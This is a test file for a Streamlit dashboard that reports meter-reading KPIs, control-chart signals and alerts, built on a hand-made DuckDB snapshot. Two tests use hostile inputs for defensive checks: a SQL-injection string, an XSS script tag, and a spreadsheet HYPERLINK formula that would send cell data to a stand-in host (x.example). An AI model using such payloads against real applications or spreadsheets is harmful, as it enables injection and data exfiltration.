"""The Overview page (the director) and its frames (dashboards/overview.py), on a tiny hand-made snapshot.

KPI marts (marts.kpi_team_month, marts.kpi_centre_month; the centre row is the teams' sum):

  month    team      due  unknown  read  missed  est  errors  meters  m_err  kWh due  kWh err  reports  defects
  2025-03  抄表一队  1000     0     975    15     10     2     1020      2    95,000   200.0      —        —
           抄表二队   500     0     480    12      8     3      510      3    38,000    90.0      —        —
  2026-02  抄表一队  1000     0     980    12      8     —     1020      —   100,000     —        —        —
           抄表二队   500     0     490     6      4     —      510      —    40,000     —        —        —
  2026-03  抄表一队  1000     0     990     6      4     1     1020      1   100,000   120.5    5 of 6   1 of 3
           抄表二队   500     2     485    10      3     4      510      4    40,000   102.0    3 of 4   2 of 2
(— : no review findings / no field anomaly reports delivered; "5 of 6": reports in time of all reports,
defects closed in time of those due.)

Centre 2026-03: 实抄率 1475/1500 = 98.33% (2026-02: 1470/1500 = 98.00% → +0.33 pp; 2025-03: 1455/1500 =
97.00% → +1.33 pp YoY); status unknown 2 户; 漏抄率 16/1500 = 1.07%; 估抄率 7/1500 = 0.47%; 差错率(户)
5/1475 = 0.339% (target 0.100%: missed; 2026-02 has none → no MoM; YoY 5/1475 − 5/1455 = −0.005 pp);
万户差错 33.9; 差错率(只) 5/1530 = 0.327%; 异常报告及时率 8/10 = 80.00%; 消缺及时率 3/5 = 60.00%: 2 defects
overdue (一队 2), 2 reports late (一队 1, 二队 1). 新装/变更复核率: no export verifies (12 new/changed
customers, null with its reason). Team 二队 alone: 实抄率 485/500 = 97.00%, 差错率 4/485 = 0.825%.

Control limits (marts.spc_*), flag_rate 2026-03: p̄ = 60/1475 = 4.068%; 二队 40/485 = 8.25% above its
UCL p̄ + 3·√(p̄(1−p̄)/485) = 6.76%; 一队 20/990 = 2.02% below its LCL 2.18%. Funnel (exact binomial,
99.8 %): 二队 and its reader 李娜 above the upper limit 6.99%, CUSUM rise since 2026-02 for both.
error_rate: 一队 1/990 = 0.101%, 二队 4/485 = 0.825%, both within their p-chart limits (UCL 0.893%, 1.131%).
Alerts 2026-03: 1 p-chart + 2 funnel + 2 CUSUM + 9 KPIs off target + 1 overdue defects + 1 late reports = 16.
"""

from __future__ import annotations

import json
import os
from datetime import datetime
from pathlib import Path

import duckdb
import numpy as np
import polars as pl
import pytest
from streamlit.testing.v1 import AppTest

from checks.kpis import Kpi, kpis
from checks.periods import shift_month
from checks.spc import funnel_curve_rows, funnel_rows, p_chart_rows
from dashboards import overview as ov
from dashboards.i18n import CATALOG
from readq.config import home
from tests.conftest import open_page, publish_copy, run_dashboard
from warehouse.schema import ensure_schema

PAGE = "views/overview.py"
VERSION = "2026.12.1+test0002"
COMPUTED = datetime(2026, 4, 2, 8, 30)
ONE, TWO = "抄表一队", "抄表二队"
READERS = {ONE: "张伟", TWO: "李娜"}
TARGETS = {"actual_read_rate": 1.0, "missed_rate": 0.0, "estimated_rate": 0.0, "error_rate": 0.001,
           "error_rate_meter": 0.001, "error_rate_kwh": None, "errors_per_10k": 10.0, "on_time_rate": 1.0,
           "upload_timely_rate": None, "anomaly_report_rate": 1.0, "defect_closure_rate": 1.0,
           "new_change_review_rate": 1.0, "zero_check_rate_hv": 1.0, "zero_check_rate_lv_nonres": 0.8,
           "zero_check_rate_lv_res": 0.2}
# (period, team): due, quarantined, read, missed, estimated, errors, meters due, meter errors, kWh due, kWh in
# error, reports, in time, defects due, closed in time
COUNTS = {
    ("2025-03", ONE): (1000, 0, 975, 15, 10, 2, 1020, 2, 95_000.0, 200.0, None, None, None, None),
    ("2025-03", TWO): (500, 0, 480, 12, 8, 3, 510, 3, 38_000.0, 90.0, None, None, None, None),
    ("2026-02", ONE): (1000, 0, 980, 12, 8, None, 1020, None, 100_000.0, None, None, None, None, None),
    ("2026-02", TWO): (500, 0, 490, 6, 4, None, 510, None, 40_000.0, None, None, None, None, None),
    ("2026-03", ONE): (1000, 0, 990, 6, 4, 1, 1020, 1, 100_000.0, 120.5, 6, 5, 3, 1),
    ("2026-03", TWO): (500, 2, 485, 10, 3, 4, 510, 4, 40_000.0, 102.0, 4, 3, 2, 2),
}
NEW_CHANGED = {ONE: 8, TWO: 4}
NEEDS = {"review_findings": "NO_FINDINGS", "field_anomalies": "NO_FIELD_ANOMALIES"}


def counts_row(values: tuple) -> dict[str, object]:
    due, quar, read, missed, est, err, meters, merr, kwh, kerr, reports, in_time, defects, closed = values
    return {
        "customers_due": due, "customers_quarantined": quar, "customers_read": read, "customers_missed": missed,
        "customers_estimated": est, "customers_remote": 0, "customers_team_from_assignment": 0,
        "meters_due": meters, "meters_quarantined": quar, "kwh_due": kwh, "findings_delivered": err is not None,
        "customers_with_error": err, "meters_with_error": merr, "kwh_error": kerr,
        "customers_on_time": read - 10, "customers_on_time_known": due - quar,
        "customers_upload_timely": read - 5, "customers_upload_known": read,
        "anomalies_delivered": reports is not None, "reports": reports, "reports_in_time": in_time,
        "defects_due": defects, "defects_closed_in_time": closed, "defects_pending": None if defects is None else 0,
        "master_delivered": True, "customers_verified": None,
        "zero_runs_hv": 0, "zero_runs_checked_hv": None, "zero_runs_lv_nonres": 0, "zero_runs_checked_lv_nonres": None,
        "zero_runs_lv_res": 0, "zero_runs_checked_lv_res": None,
    }


def with_kpis(rows: dict[tuple[str, str], dict], catalogue: tuple[Kpi, ...]) -> dict[tuple[str, str], dict]:
    """Each KPI's value = scale × numerator / denominator, target, met, MoM / YoY, null reason, as the marts
    define them (docs/kpis.md)."""
    def value(row: dict, k: Kpi) -> tuple[float | None, str | None]:
        num, den = row[k.numerator], row[k.denominator]
        if k.unavailable:
            return None, k.unavailable
        if num is None:
            return None, next((NEEDS[i] for i in k.input if i in NEEDS), "NO_VOLUME")
        if not den:
            return None, "NO_VOLUME"
        return k.scale * num / den, None

    out = {}
    for key, row in rows.items():
        full = dict(row)
        for k in catalogue:
            v, reason = value(row, k)
            target = TARGETS[k.id]
            full[k.id] = v
            full[k.column("target")] = target
            full[k.column("met")] = None if v is None or target is None else (
                v >= target if k.direction == "higher" else v <= target)
            full[k.column("null_reason")] = reason
            for suffix, months in (("mom", 1), ("yoy", 12)):
                earlier = rows.get((shift_month(key[0], -months), key[1]))
                before = None if earlier is None else value(earlier, k)[0]
                full[k.column(suffix)] = None if v is None or before is None else v - before
        out[key] = full
    return out


def insert(con: duckdb.DuckDBPyConnection, table: str, rows: list[dict]) -> None:
    for row in rows:
        con.execute(f"insert into {table} ({', '.join(row)}) values ({', '.join('?' * len(row))})", list(row.values()))


def kpi_rows(team_names: dict[str, str] | None = None) -> tuple[list[dict], list[dict]]:
    """(team rows, centre rows) of the KPI marts; `team_names` renames teams (an evil name)."""
    catalogue = kpis()
    teams = {k: {**counts_row(v), "customers_new_changed": NEW_CHANGED[k[1]]} for k, v in COUNTS.items()}
    centre: dict[tuple[str, str], dict] = {}
    for (period, _team), row in teams.items():
        acc = centre.setdefault((period, ""), {})
        for col, v in row.items():
            if isinstance(v, bool):
                acc[col] = v
            elif v is None or acc.get(col, 0) is None:
                acc[col] = None
            else:
                acc[col] = acc.get(col, 0) + v
    meta = {"config_version": VERSION, "computed_at": COMPUTED}
    names = team_names or {}
    team_rows = [{"period": p, "team": names.get(t, t), **r, **meta}
                 for (p, t), r in with_kpis(teams, catalogue).items()]
    centre_rows = [{"period": p, **r, **meta} for (p, _), r in with_kpis(centre, catalogue).items()]
    return team_rows, centre_rows


def spc_rates() -> pl.DataFrame:
    """The control charts' rates (numerator, denominator) per month, level, unit and metric."""
    rows = []
    for period, team, flags, reads in (("2026-02", ONE, 15, 980), ("2026-02", TWO, 12, 490),
                                       ("2026-03", ONE, 20, 990), ("2026-03", TWO, 40, 485)):
        for level in ("team", "reader"):
            rows.append((period, level, team, READERS[team] if level == "reader" else None, "flag_rate", flags, reads))
    for (period, team), c in COUNTS.items():
        if period == "2026-03":
            rows.append((period, "team", team, None, "error_rate", c[5], c[2]))
            rows.append((period, "reader", team, READERS[team], "error_rate", c[5] - (team == TWO), c[2]))
    return pl.DataFrame(rows, orient="row", schema={"period": pl.String, "level": pl.String, "team": pl.String,
                                                    "reader": pl.String, "metric": pl.String,
                                                    "numerator": pl.Float64, "denominator": pl.Float64})


# CUSUM judged at 2026-03: period, level, team, reader, metric, months, S+, S-, signal, start, run, num, den
CUSUM = [
    ("2026-03", "team", TWO, None, "flag_rate", 2, 6.2, 0.0, "rise", "2026-02", 2, 40.0, 485.0),
    ("2026-03", "team", ONE, None, "flag_rate", 2, 0.0, 2.1, "none", None, None, 20.0, 990.0),
    ("2026-03", "reader", TWO, READERS[TWO], "flag_rate", 2, 6.2, 0.0, "rise", "2026-02", 2, 40.0, 485.0),
    ("2026-03", "reader", ONE, READERS[ONE], "flag_rate", 2, 0.0, 2.1, "none", None, None, 20.0, 990.0),
    ("2026-03", "team", ONE, None, "error_rate", 1, 0.0, 0.0, "too_few_months", None, None, 1.0, 990.0),
    ("2026-03", "team", TWO, None, "error_rate", 1, 0.0, 0.0, "too_few_months", None, None, 4.0, 485.0),
]
CUSUM_COLUMNS = ("period", "level", "team", "reader", "metric", "months", "cusum_up", "cusum_down", "signal",
                 "start_month", "run_months", "numerator", "denominator")


def insert_spc(con: duckdb.DuckDBPyConnection) -> None:
    """marts.spc_p_chart, spc_funnel, spc_funnel_limits (checks/spc.py on the rates above; z = 3, 95 % and
    99.8 %) and spc_cusum (the rows above)."""
    rates = spc_rates()
    meta = {"config_version": VERSION, "computed_at": COMPUTED}
    for table, frame in (
        ("marts.spc_p_chart", p_chart_rows(rates.filter(pl.col("level") == "team"), 3.0).drop("level", "reader")),
        ("marts.spc_funnel", funnel_rows(rates, (0.95, 0.998))),
        ("marts.spc_funnel_limits", funnel_curve_rows(rates, (0.95, 0.998), 8)),
        ("marts.spc_cusum", pl.DataFrame([dict(zip(CUSUM_COLUMNS, r, strict=True)) for r in CUSUM])),
    ):
        insert(con, table, [{**r, **meta} for r in frame.to_dicts()])


def build_snapshot(path: Path, *, team_names: dict[str, str] | None = None, spc: bool = True) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    con = duckdb.connect(str(path))
    try:
        ensure_schema(con)
        teams, centre = kpi_rows(team_names)
        insert(con, "marts.kpi_team_month", teams)
        insert(con, "marts.kpi_centre_month", centre)
        if spc:
            insert_spc(con)
        else:
            for table in ("spc_p_chart", "spc_funnel", "spc_funnel_limits", "spc_cusum"):
                con.execute(f"drop table marts.{table}")
    finally:
        con.close()
    return path


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_snapshot(tmp_path_factory.mktemp("overview") / "snapshot.duckdb")


@pytest.fixture(autouse=True)
def _isolated(streamlit_isolated):
    """Fresh Streamlit caches and data folder for every test (see conftest)."""


@pytest.fixture
def snapshot(built: Path) -> Path:
    return publish_copy(built)


def run_page(**query: str | list[str]) -> AppTest:
    return open_page(PAGE, **query)


def metrics(at: AppTest) -> dict[str, tuple[str, str]]:
    return {m.label: (m.value, m.delta) for m in at.metric}


def captions(at: AppTest) -> list[str]:
    return [c.value for c in at.caption]


def frame_with(at: AppTest, column: str):
    return next(d.value for d in at.dataframe if column in d.value.columns)


def chart(at: AppTest) -> dict:
    charts = at.get("plotly_chart")
    assert len(charts) == 1
    return json.loads(charts[0].proto.spec)


# --- the page ------------------------------------------------------------------------------------------------

def test_default_page_cards_with_counts_targets_and_changes(snapshot, downloads):
    at = run_dashboard()  # the default page of the app: the entrypoint runs it without a page in the URL
    assert at.title[0].value == "抄表中心总览"
    assert at.header[0].value == "2026-03 月度指标"
    assert any(VERSION in c for c in captions(at))
    m = metrics(at)
    assert m["实抄率"] == ("98.33%", "+0.33 个百分点")
    assert m["漏抄率"][0] == "1.07%" and m["估抄率"][0] == "0.47%"
    assert m["抄表差错率（户）"] == ("0.339%", None) or m["抄表差错率（户）"] == ("0.339%", "")  # 2026-02: no findings
    assert m["万户差错"][0] == "33.9"
    assert m["抄表差错率（只）"][0] == "0.327%"
    assert m["异常报告及时率"][0] == "80.00%" and m["消缺及时率"][0] == "60.00%"
    caps = captions(at)
    # counts beside every rate, the status-unknown customers beside the rates over what is due
    assert any(c.startswith("实抄 1,475 / 应抄 1,500 户 · 状态不明（隔离中）2 户 · 目标 ≥ 100.00% · ⚠️ 未达标 · "
                            "同比 +1.33 个百分点") for c in caps)
    assert any(c.startswith("差错 5 / 实抄 1,475 户 · 目标 ≤ 0.100% · ⚠️ 未达标 · 同比 -0.005 个百分点") for c in caps)
    assert any(c.startswith("差错 5 / 应抄 1,530 只 · 状态不明（隔离中）2 只") for c in caps)
    assert any(c.startswith("按时上报 8 / 异常报告单 10 份") for c in caps)
    # a KPI no export can measure: its reason and its denominator, never 0
    assert m["新装/变更复核率"][0] == "无数据"
    assert "无数据的原因: 没有任何导出文件记录新装/变更用户的现场复核结果" in caps
    assert any(c.startswith("已现场复核 — / 新装/变更 12 户 · 目标 ≥ 100.00%") for c in caps)
    assert "0.00%" not in {v for v, _ in m.values()}
    # the ranking CSV (the page's one download): counts and rates as numbers, formulas impossible
    assert downloads["file_name"] == "team_ranking_error_rate_2026-03.csv"
    lines = downloads["data"].decode("utf-8-sig").splitlines()
    assert lines[0].startswith("名次,抄表队,差错（户）,实抄（户）,抄表差错率（户）（%）")
    assert lines[1].startswith("1,抄表一队,1,990,0.10101")
    assert lines[2].startswith("2,抄表二队,4,485,0.82474")


def test_ranking_signals_and_alerts(snapshot):
    at = run_page(metric="flag_rate")
    rank = frame_with(at, "名次")
    rows = {r["抄表队"]: r for _, r in rank.iterrows()}
    one, two = rows[ONE], rows[TWO]
    assert (one["名次"], one["有标记的读数"], one["读数"]) == (1, 20, 990)
    assert one["异常标记率"] == pytest.approx(20 / 990 * 100)
    assert (one["p 控制图"], one["漏斗图"], one["CUSUM"]) == ("低于控制下限", "低于 99.8% 下限", "无持续变化")
    assert (two["名次"], two["有标记的读数"], two["读数"]) == (2, 40, 485)
    assert two["控制上限 UCL"] == pytest.approx((60 / 1475 + 3 * np.sqrt(60 / 1475 * (1 - 60 / 1475) / 485)) * 100)
    assert (two["p 控制图"], two["漏斗图"], two["CUSUM"]) == ("高于控制上限", "高于 99.8% 上限", "自 2026-02 起上升")
    assert (two["应抄（户）"], two["实抄（户）"], two["状态不明户数（隔离中）"]) == (500, 485, 2)

    alerts = frame_with(at, "类别")
    kinds = alerts["类别"].tolist()
    assert len(kinds) == 16
    assert kinds.count("高于控制上限") == 1 and kinds.count("超出漏斗图外限") == 2 and kinds.count("持续上升") == 2
    assert kinds.count("指标未达标") == 9
    detail = dict(zip(zip(alerts["类别"], alerts["对象"], strict=True), alerts["说明"], strict=True))
    assert detail[("高于控制上限", TWO)] == "8.25%（40 / 485）高于 p 控制图上限 6.76%"
    assert detail[("超出漏斗图外限", "李娜 · 抄表二队")] == "8.25%（40 / 485）高于漏斗图 99.8% 上限 6.99%"
    assert detail[("持续上升", TWO)] == "自 2026-02 起持续上升（2 个月，CUSUM）；本月 8.25%（40 / 485）"
    assert detail[("缺陷逾期未处理", "全中心")] == "2 项缺陷未在期限内处理完成（到期 5 项）：抄表一队 2"
    assert detail[("异常报告超时", "全中心")] == "2 份异常报告单未在时限内上报（共 10 份）：抄表一队 1、抄表二队 1"
    off = alerts[alerts["类别"] == "指标未达标"].set_index("指标")["说明"]
    assert off["抄表差错率（户）"] == "0.339%（5 / 1,475），目标 ≤ 0.100%"
    assert "上装及时率" not in off.index  # no target: never "off target"
    assert any(w.value.startswith("本月共 16 条提醒") for w in at.warning)


def test_a_selected_team_row_links_to_its_readers_on_the_errors_page(snapshot):
    at = AppTest.from_file(str(Path(__file__).parents[1] / "dashboards" / "app.py"), default_timeout=30)
    at.switch_page(PAGE).run()
    assert not at.page_link  # nothing selected: no link yet
    at.session_state["overview_ranking"] = {"selection": {"rows": [1], "columns": [], "cells": []}}
    at.session_state["overview_alerts"] = {"selection": {"rows": [2], "columns": [], "cells": []}}
    at.run()
    links = {pl_.value: pl_.proto for pl_ in at.page_link}
    team = links["打开 抄表二队 的差错统计与抄表员"]
    assert team.page == "errors"
    assert team.query_string == "month=2026-03&team=%E6%8A%84%E8%A1%A8%E4%BA%8C%E9%98%9F"
    reader = links["打开 李娜（抄表二队）的差错与标记明细"]  # alert 3: the reader outside the funnel
    assert "reader=%E6%9D%8E%E5%A8%9C+%C2%B7+%E6%8A%84%E8%A1%A8%E4%BA%8C%E9%98%9F" in reader.query_string


def test_month_without_findings_shows_the_reason_never_zero(snapshot):
    at = run_page(month="2026-02")
    m = metrics(at)
    assert m["实抄率"] == ("98.00%", None) or m["实抄率"][1] in ("", None)  # no 2026-01
    for label in ("抄表差错率（户）", "抄表差错率（只）", "抄表差错率（电量）", "万户差错"):
        assert m[label][0] == "无数据"
    assert captions(at).count("无数据的原因: 本月未交付复核差错记录") == 4
    assert any(c.startswith("差错 — / 实抄 1,470 户") for c in captions(at))
    rank = frame_with(at, "名次")
    assert rank["说明"].tolist() == ["本月未交付复核差错记录"] * 2
    assert rank["名次"].isna().all()
    alerts = frame_with(at, "类别")
    assert "抄表差错率（户）" not in alerts["指标"].tolist()  # no value: not "off target"
    assert any("未交付异常报告单" in c for c in captions(at))  # no workflow data: said, not counted as 0


def test_team_filter_trend_and_unknown_team(snapshot):
    at = run_page(team=[TWO, "不存在的队"], kpi="error_rate")
    assert any("不存在的队" in i.value for i in at.info)
    m = metrics(at)
    assert m["实抄率"][0] == "97.00%" and m["抄表差错率（户）"][0] == "0.825%"
    assert any(c.startswith("实抄 485 / 应抄 500 户 · 状态不明（隔离中）2 户") for c in captions(at))
    alerts = frame_with(at, "类别")
    assert ONE not in alerts["对象"].tolist()
    fig = chart(at)
    lines = {tr["name"]: tr for tr in fig["data"]}
    assert set(lines) == {"全中心", TWO, "目标"}
    assert lines["全中心"]["x"] == ["2025-03", "2026-02", "2026-03"]
    assert lines["全中心"]["y"][1] is None  # 2026-02: no findings -> a gap, not 0
    assert lines["全中心"]["y"][2] == pytest.approx(5 / 1475)
    assert lines[TWO]["y"][0] == pytest.approx(3 / 480)
    assert lines[TWO]["customdata"][2] == ["4", "485"]  # counts in the hover
    assert lines["目标"]["line"]["dash"] == "dash"
    assert any("2026-02" in c for c in captions(at))


def test_several_teams_are_summed_then_divided(snapshot):
    at = run_page(team=[ONE, TWO])
    assert any(c.startswith("范围：所选 2 个抄表队") for c in captions(at))
    assert metrics(at)["实抄率"] == ("98.33%", "+0.33 个百分点")  # 1475/1500: both teams are the centre


def test_english(snapshot):
    at = run_page(lang="en")
    assert at.title[0].value == "Reading centre overview"
    assert at.header[0].value == "KPIs for 2026-03"
    m = metrics(at)
    assert m["Actual-read rate"] == ("98.33%", "+0.33 pp")
    assert m["New / changed customer review"][0] == "no data"
    assert "No data because: no export records whether new or changed customers were verified on site" in captions(at)
    assert any(c.startswith("read 1,475 / due 1,500 customers · status unknown (in quarantine) 2 customers")
               for c in captions(at))
    assert "Rank" in frame_with(at, "Rank").columns
    assert "Kind" in frame_with(at, "Kind").columns


@pytest.mark.parametrize("bad", ["2026-13' or 1=1 --", "<script>alert(1)</script>"])
def test_crafted_params_give_messages_not_errors(snapshot, bad):
    at = run_page(month=bad, team=bad, metric=bad, kpi=bad)
    infos = " ".join(i.value for i in at.info)
    assert "不在数据中，显示最新月份 2026-03" in infos
    assert "排名依据不是可用的指标" in infos and "指标不在指标目录中" in infos
    assert at.header[0].value == "2026-03 月度指标"
    assert metrics(at)["实抄率"][0] == "98.33%"


def test_no_snapshot_and_older_snapshots():
    at = run_page()
    assert len(at.info) == 1 and "uv run readq demo" in at.info[0].value
    assert not at.metric
    assert "No published data snapshot" in run_page(lang="en").info[0].value
    path = home().published
    path.parent.mkdir(parents=True, exist_ok=True)
    duckdb.connect(str(path)).close()
    at = run_page()
    assert "marts.kpi_centre_month" in at.info[0].value and "marts.kpi_team_month" in at.info[0].value


def test_without_control_limits_the_ranking_still_ranks(tmp_path):
    publish_copy(build_snapshot(tmp_path / "no_spc.duckdb", spc=False))
    at = run_page()
    rank = frame_with(at, "名次")
    assert rank["抄表队"].tolist() == [ONE, TWO]
    assert rank["p 控制图"].tolist() == ["—", "—"]
    assert any("没有控制限数据" in c for c in captions(at))


def test_new_publish_shows_up_and_csv_cells_cannot_run(snapshot, tmp_path, downloads):
    assert metrics(run_page())["实抄率"][0] == "98.33%"
    evil = '=HYPERLINK("http://x.example/?"&A1,"点击")'
    staged = build_snapshot(tmp_path / "next.duckdb", team_names={ONE: evil})
    os.replace(staged, snapshot)  # the pipeline publishes with os.replace
    at = run_page()
    assert evil in frame_with(at, "名次")["抄表队"].tolist()
    lines = downloads["data"].decode("utf-8-sig").splitlines()
    assert lines[1].startswith('1,"\'=HYPERLINK(""http://x.example/?""&A1,""点击"")",1,990,')
    assert not any(line.startswith(("=", '"=')) for line in lines)


def test_catalogs_have_identical_keys():
    assert set(CATALOG["zh"]) == set(CATALOG["en"])
    assert all(CATALOG[lang][key].strip() for lang in CATALOG for key in CATALOG[lang])


# --- the frames (dashboards/overview.py) ---------------------------------------------------------------------

def frames() -> tuple[pl.DataFrame, pl.DataFrame]:
    teams, centre = kpi_rows()
    return pl.DataFrame(centre, infer_schema_length=None), pl.DataFrame(teams, infer_schema_length=None)


def test_combined_teams_sum_counts_and_weight_targets():
    """Two teams with different error targets (manual 0.1 %, remote 0.01 %): the combined target is weighted
    by customers read, (0.001 × 990 + 0.0001 × 485) / 1475 = 0.000704068, not the mean 0.00055."""
    catalogue = kpis()
    _, teams = frames()
    teams = teams.with_columns(error_rate_target=pl.when(pl.col("team") == TWO).then(0.0001)
                               .otherwise(pl.col("error_rate_target")))
    both = ov.scope_rows(pl.DataFrame(), teams, [ONE, TWO], catalogue)
    march = both.filter(pl.col("period") == "2026-03").row(0, named=True)
    assert march["actual_read_rate"] == pytest.approx(1475 / 1500)
    assert march["error_rate"] == pytest.approx(5 / 1475)
    assert march["error_rate_target"] == pytest.approx((0.001 * 990 + 0.0001 * 485) / 1475)
    assert march["error_rate_met"] is False
    assert march["actual_read_rate_mom"] == pytest.approx(1475 / 1500 - 1470 / 1500)
    assert march["actual_read_rate_yoy"] == pytest.approx(1475 / 1500 - 1455 / 1500)
    assert march["error_rate_mom"] is None  # 2026-02 had no findings
    assert march["customers_quarantined"] == 2
    feb = both.filter(pl.col("period") == "2026-02").row(0, named=True)
    assert feb["error_rate"] is None and feb["error_rate_null_reason"] == "NO_FINDINGS"
    assert feb["new_change_review_rate_null_reason"] == "NO_VERIFICATION_DATA"


def test_cards_and_their_text():
    catalogue = {k.id: k for k in kpis()}
    centre, _ = frames()
    row = centre.filter(pl.col("period") == "2026-03").row(0, named=True)
    cards = {c.kpi.id: c for c in ov.cards(row, list(catalogue.values()))}
    read = cards["actual_read_rate"]
    assert (read.numerator, read.denominator, read.quarantined, read.met) == (1475, 1500, 2, False)
    assert ov.fmt_value(read.kpi, read.value) == "98.33%"
    assert ov.fmt_change(read.kpi, read.mom, "pp") == "+0.33 pp"
    err = cards["error_rate"]
    assert ov.fmt_value(err.kpi, err.value) == "0.339%" and err.quarantined is None  # its base is customers read
    assert ov.fmt_value(cards["errors_per_10k"].kpi, cards["errors_per_10k"].value) == "33.9"
    assert ov.fmt_change(cards["errors_per_10k"].kpi, -0.04, "pp") == "-0.0"
    review = cards["new_change_review_rate"]
    assert review.value is None and review.null_reason == "NO_VERIFICATION_DATA" and review.denominator == 12
    assert [a.metric for a in ov.target_alerts(list(cards.values()))] == [
        "actual_read_rate", "missed_rate", "estimated_rate", "error_rate", "error_rate_meter", "errors_per_10k",
        "on_time_rate", "anomaly_report_rate", "defect_closure_rate"]


def test_ranking_leaves_the_unattributed_team_unranked():
    _, teams = frames()
    extra = teams.filter((pl.col("period") == "2026-03") & (pl.col("team") == ONE)).with_columns(
        team=pl.lit("(未指定)"), customers_with_error=pl.lit(0, pl.Int64), customers_read=pl.lit(10, pl.Int64))
    rank = ov.ranking(pl.concat([teams, extra]), "2026-03", "error_rate",
                      {"numerator": "customers_with_error", "denominator": "customers_read"},
                      p_chart=None, funnel=None, cusum=None, unattributed="(未指定)")
    assert rank["team"].to_list() == [ONE, TWO, "(未指定)"]
    assert rank["rank"].to_list() == [1, 2, None]  # 0/10 would be "best": it is nobody's
    assert rank["rate"].to_list() == pytest.approx([1 / 990, 4 / 485, 0.0])


def test_overdue_alerts_need_field_anomaly_data():
    _, teams = frames()
    march = teams.filter(pl.col("period") == "2026-03")
    centre, _ = frames()
    row = centre.filter(pl.col("period") == "2026-03").row(0, named=True)
    found = {a.kind: a for a in ov.overdue_alerts(row, march)}
    assert (found["overdue_defects"].count, found["overdue_defects"].total) == (2, 5)
    assert found["overdue_defects"].breakdown == ((ONE, 2),)
    assert found["late_reports"].breakdown == ((ONE, 1), (TWO, 1))
    feb = centre.filter(pl.col("period") == "2026-02").row(0, named=True)
    assert ov.overdue_alerts(feb, teams.filter(pl.col("period") == "2026-02")) == []
